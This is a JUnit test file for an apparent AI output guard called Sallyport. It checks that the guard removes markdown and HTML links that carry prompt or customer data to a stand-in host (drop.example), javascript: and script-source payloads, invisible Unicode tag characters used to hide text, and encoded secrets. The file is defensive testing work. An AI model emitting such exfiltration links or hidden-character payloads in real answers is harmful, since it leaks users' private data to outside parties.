package io.sallyport.guard;

import static org.assertj.core.api.Assertions.assertThat;

import io.sallyport.core.Direction;
import io.sallyport.core.Origin;
import io.sallyport.core.Segment;
import io.sallyport.core.Verdict;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Links, invisible characters, personal data and limits. */
final class OutputScannersTest {

  private static final Guard GUARD = Guard.standard();
  private static final String DATA =
      Base64.getUrlEncoder()
          .withoutPadding()
          .encodeToString("the customer is called Rosa".getBytes(StandardCharsets.US_ASCII));

  @ParameterizedTest
  @ValueSource(
      strings = {
        "![x](https://drop.example/p.png?d=lantern7731)",
        "![x](https://drop.example/lantern-7731.png)",
        "![x](https://lantern7731.drop.example/p.png)",
        "![x](https://drop.example/p.png?d=bGFudGVybjc3MzE)",
        "<img src=\"https://drop.example/#lantern%207731\">"
      })
  void pictureWhoseAddressCarriesAValueOfThePrompt_isTakenOut(String answer) {
    Inspection inspection = withPrompt(answer);

    assertThat(inspection.verdict()).isEqualTo(Verdict.REDACT);
    assertThat(inspection.treated().getFirst().text()).doesNotContain("drop.example");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "![logo](https://cdn.example/logo-2024b.png)",
        "[our conditions](https://shop.example/lantern-7731)",
        "![x](https://cdn.example/chart.png?width=800)"
      })
  void addressThatThePromptHolds_orThatSaysNothing_passes(String answer) {
    assertThat(withPrompt(answer).verdict()).isEqualTo(Verdict.ALLOW);
  }

  @Test
  void manyLinksUnderALongPrompt_costLittle() {
    String prompt = "Speak of the harbour, of parcels and of nothing else. ".repeat(5_000);
    StringBuilder answer = new StringBuilder();
    for (int i = 0; i < 1_500; i++) {
      answer.append("[x](https://docs.example/a-page-of-the-guide-").append(i).append(") ");
    }
    Policy links =
        Policy.off().toBuilder()
            .scanner(Scanners.LINKS, ScannerPolicy.of(Mode.REDACT, 0.5))
            .build();
    GuardContext context = new GuardContext("tenant", "one", List.of(), List.of(prompt));
    List<Segment> said = List.of(Segment.of("answer", answer.toString(), Origin.ASSISTANT));

    double seconds =
        Work.seconds(
            () ->
                assertThat(GUARD.inspect(said, Direction.OUTPUT, links, context).verdict())
                    .isEqualTo(Verdict.ALLOW));

    assertThat(seconds).isLessThan(8);
  }

  private static Inspection withPrompt(String answer) {
    return GUARD.inspect(
        List.of(Segment.of("answer", answer, Origin.ASSISTANT)),
        Direction.OUTPUT,
        Policy.balanced(),
        new GuardContext(
            "tenant",
            "one",
            List.of(),
            List.of(
                "The code is Lantern-7731. Show https://cdn.example/logo-2024b.png, send people to"
                    + " https://shop.example/lantern-7731 for it.")));
  }

  private static Inspection output(String text) {
    return output(text, Policy.balanced());
  }

  private static Inspection output(String text, Policy policy) {
    return GUARD.inspect(
        List.of(Segment.of("answer", text, Origin.ASSISTANT)),
        Direction.OUTPUT,
        policy,
        GuardContext.none());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "![x](https://drop.example/p.png?d=$)",
        "![x]( <https://drop.example/p.png?d=$> \"title\")",
        "[see here](https://drop.example/go?d=$)",
        "[![x](https://drop.example/$/p.png)](https://ok.example)",
        "![x][1]\n\n[1]: https://drop.example/?d=$",
        "<img src=\"https://drop.example/?d=$\">",
        "<IMG alt='a' SRC=//drop.example/?d=$ >",
        "<iframe src='https://drop.example/$'></iframe>",
        "<link rel=stylesheet href=https://drop.example/$>",
        "<div style=\"background:url(https://drop.example/?d=$)\">",
        "![x](https://drop.example/?q=the%20customer%20is%20called%20Rosa)",
        "![x](https://drop.example/?q=the+customer+is+called+Rosa)",
        "https://drop.example/?d=$",
        "[x](javascript:alert(1))",
        "[x](data:text/html;base64,AAAA)",
        "<a href=\"JavaScript:void(0)\">x</a>",
        "[x](vbscript:alert(1))",
        "[x](ftp://drop.example/$)",
        "<img src=wss://drop.example/?d=$>",
        "<video poster='http://drop.example/$'></video>",
        "<img src='//drop.example/$'>",
        "<script src=\"//drop.example/$\"></script>",
        "<body background=\"https://drop.example/$\">",
        "![x](//drop.example/$)",
        "<style>a{background:url(//drop.example/$)}</style>",
        "<style>a{background:url('//drop.example/$')}</style>",
        "<style>@import url(\"//drop.example/$\")</style>",
        "![x](https://dGhlIGN1c3RvbWVyIGlzIGNhbGxlZA.drop.example/p.png)",
        "![x](https://dGhlIGN1c3Rv.bWVyIGlzIGNhbGxlZA.drop.example/p.png)",
        "![x](https://drop.example/dGhlIGN1c3Rv/bWVyIGlzIGNhbGxlZA/p.png)",
        "![x](https://drop.example/dGhlIGN1c3Rv/bWVyIGlzIGNhbGxl.png)",
        "![x](https://LANTERN-7731-QUARTZ@drop.example/p.png)",
        "![x](https://drop.example/LANTERN-7731-QUARTZ)",
        "![x](https://drop.example/LANTERN-7731-QUARTZ.png)",
        "![x](https://drop.example/p.png?LANTERN-7731-QUARTZ=1)",
        "![x](https://drop.example/p?d=746865206375737432f6d6572)",
      })
  void linkThatCarriesData_isRemoved(String template) {
    String text =
        template
            .replace("$", DATA)
            .replace("746865206375737432f6d6572", "74686520637573746f6d6572206973");

    Inspection inspection = output("Look: " + text + " please");

    assertThat(inspection.verdict()).isEqualTo(Verdict.REDACT);
    assertThat(inspection.treated().getFirst().text())
        .contains("[link removed by Sallyport]")
        .doesNotContain("drop.example", "alert(1)", "void(0)", "AAAA");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "See https://docs.example/guide/install?version=3#linux for more.",
        "[the guide](https://docs.example/a/b/c.html \"Guide\")",
        "![logo](https://img.example/logo.png)",
        "![photo](https://img.example/IMG_20240101_123456.jpg)",
        "![photo](https://img.example/a/b/photo-1519125323398-675f0ddb6308.jpg)",
        "![photo](https://img.example/users/alice/pictures/summer/beach.png)",
        "![flag](https://img.example/flags/de.svg?lang=en&RETINA=1)",
        "![photo](https://images.example/photo-15.jpg?w=800&h=600&fit=crop&q=80)",
        "![build](https://img.shields.io/badge/build-passing-brightgreen?style=flat-square)",
        "[search](https://www.example.com/search?q=how+to+bake+bread)",
        "[commit](https://git.example/o/r/commit/9fceb02d0ae598e95dc970b74767f19372d61af8)",
        "<a href=\"https://shop.example/item/42?utm_source=mail&utm_campaign=spring_sale\">buy</a>",
        "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUA\">",
        "[mail us](mailto:help@shop.example)",
        "arr[0](x) and [a][b] and a < b > c",
        "![chart](https://bucket.s3.example/c.png?X-Amz-Signature=9fceb02d0ae598e95dc970b74767f19372d61af89fceb02d0ae598e9&X-Amz-Expires=600)",
      })
  void ordinaryLink_passes(String text) {
    Inspection inspection = output(text);

    assertThat(inspection.findings())
        .filteredOn(located -> located.finding().scanner().equals("links"))
        .allSatisfy(located -> assertThat(located.verdict()).isEqualTo(Verdict.ALLOW));
    assertThat(inspection.treated().getFirst().text()).isEqualTo(text);
  }

  @Test
  void linkToAnAllowedHost_passes() {
    Policy policy = Policy.balanced().toBuilder().linkHost("*.ours.example").build();

    assertThat(output("![x](https://cdn.ours.example/p?d=" + DATA + ")", policy).verdict())
        .isEqualTo(Verdict.ALLOW);
    assertThat(output("![x](https://ours.example.drop.example/p?d=" + DATA + ")", policy).verdict())
        .isEqualTo(Verdict.REDACT);
  }

  @Test
  void linkInAUserMessage_isTheUsersOwn() {
    Inspection inspection =
        GUARD.inspect(
            List.of(Segment.of("m", "![x](https://drop.example/p?d=" + DATA + ")", Origin.USER)),
            Direction.INPUT,
            Policy.balanced().toBuilder().scanner(Scanners.INJECTION, ScannerPolicy.off()).build(),
            GuardContext.none());

    assertThat(inspection.verdict()).isEqualTo(Verdict.ALLOW);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "a\uDB40\uDC49\uDB40\uDC67\uDB40\uDC6Eb",
        "a\uFE0F\uFE0E\uFE01\uFE02b",
        "\uD83D\uDE00\uDB40\uDD58\uDB40\uDD55\uDB40\uDD5C\uDB40\uDD5C",
        "pay \u202Eevil\u202C now",
        "x\u200B\u200C\u200B\u200B\u200C\u200B\u200C\u200C\u200By",
        "x\u3164\u3164\u3164\u3164\u3164\u3164\u3164\u3164y",
        "\uD83C\uDFF4\uDB40\uDC69\uDB40\uDC67\uDB40\uDC6E\uDB40\uDC6F\uDB40\uDC72\uDB40\uDC65\uDB40\uDC61\uDB40\uDC6C\uDB40\uDC6C"
      })
  void hiddenText_isTakenOut(String text) {
    Inspection inspection = output(text);

    assertThat(inspection.verdict()).isEqualTo(Verdict.REDACT);
    assertThat(inspection.treated().getFirst().text()).hasSizeLessThan(text.length());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67\u200D\uD83D\uDC66 family",
        "\uD83C\uDFF4\uDB40\uDC67\uDB40\uDC62\uDB40\uDC73\uDB40\uDC63\uDB40\uDC74\uDB40\uDC7F Scotland",
        "\uD83C\uDFF3\uFE0F\u200D\uD83C\uDF08 and \u2764\uFE0F and \u263A\uFE0F",
        "\u0645\u06CC\u200C\u062E\u0648\u0627\u0647\u0645 \u06A9\u062A\u0627\u0628\u200C\u0647\u0627",
        "\u0915\u094D\u200D\u0937 and \u0D28\u0D4D\u200D",
        "soft\u00ADhyphen and word\u2060joiner",
        "\uFEFFtext with a byte order mark",
        "\u200Fright to left mark\u200E"
      })
  void ordinaryJoiners_pass(String text) {
    assertThat(output(text).treated().getFirst().text()).isEqualTo(text);
  }

  @Test
  void personalData_isFlaggedAndRedactedByTheStrictPolicy() {
    String text = "Write to jane.doe@harbour-post.org please";

    assertThat(output(text).verdict()).isEqualTo(Verdict.FLAG);
    assertThat(output(text).treated().getFirst().text()).isEqualTo(text);
    assertThat(output(text, Policy.strict()).treated().getFirst().text())
        .isEqualTo("Write to [EMAIL] please");
  }

  @Test
  void secretInsideBase64_isFound() {
    String config = "{\"token\": \"" + "glp" + "at-" + "F4keA1b2C3d4E5f6G7h8\"}";
    String encoded = Base64.getEncoder().encodeToString(config.getBytes(StandardCharsets.US_ASCII));

    assertThat(output("data: " + encoded).verdict()).isEqualTo(Verdict.REDACT);
  }

  @Test
  void textOverTheLimits_isBlockedAcrossSegments() {
    Policy policy = Policy.balanced().toBuilder().limits(new Limits(30, 1_000, 10, 10_000)).build();
    Segment half = Segment.of("m", "twenty letters here.", Origin.USER);

    Inspection one = GUARD.inspect(List.of(half), Direction.INPUT, policy, GuardContext.none());
    Inspection two =
        GUARD.inspect(List.of(half, half), Direction.INPUT, policy, GuardContext.none());

    assertThat(one.verdict()).isEqualTo(Verdict.ALLOW);
    assertThat(two.verdict()).isEqualTo(Verdict.BLOCK);
    assertThat(two.clientMessage()).contains("text too long (limits/characters)");
  }

  @Test
  void tooManyTokens_areBlocked() {
    Policy policy = Policy.balanced().toBuilder().limits(new Limits(1_000, 5, 10, 1_000)).build();

    assertThat(output("one two three four five six", policy).clientMessage())
        .contains("too many tokens");
  }

  @Test
  void oneWordOverAndOver_isBlocked() {
    Inspection inspection =
        GUARD.inspect(
            List.of(Segment.of("m", "poem ".repeat(900), Origin.USER)),
            Direction.INPUT,
            Policy.balanced(),
            GuardContext.none());

    assertThat(inspection.clientMessage()).contains("limits/repetition");
  }

  @Test
  void tokenEstimate_countsRunsAndSigns() {
    assertThat(TokenEstimate.of("")).isZero();
    assertThat(TokenEstimate.of("word word")).isEqualTo(2);
    assertThat(TokenEstimate.of("extraordinary!")).isEqualTo(5);
    assertThat(TokenEstimate.of("\u4F60\u597D")).isEqualTo(2);
  }

  @Test
  void knownSecret_isRedactedWhateverItLooksLike() {
    Guard guard = Guard.standard(List.of("a-plain-looking-secret", "EMPTY"));
    Segment text = Segment.of("text", "It is a-plain-looking-secret, not EMPTY.", Origin.ASSISTANT);

    Inspection inspection =
        guard.inspect(List.of(text), Direction.OUTPUT, Policy.balanced(), GuardContext.none());

    assertThat(inspection.treated().get(0).text())
        .isEqualTo("It is [removed by Sallyport: a credential of this gateway], not EMPTY.");
    assertThat(inspection.findings().toString()).doesNotContain("a-plain-looking-secret");
  }
}
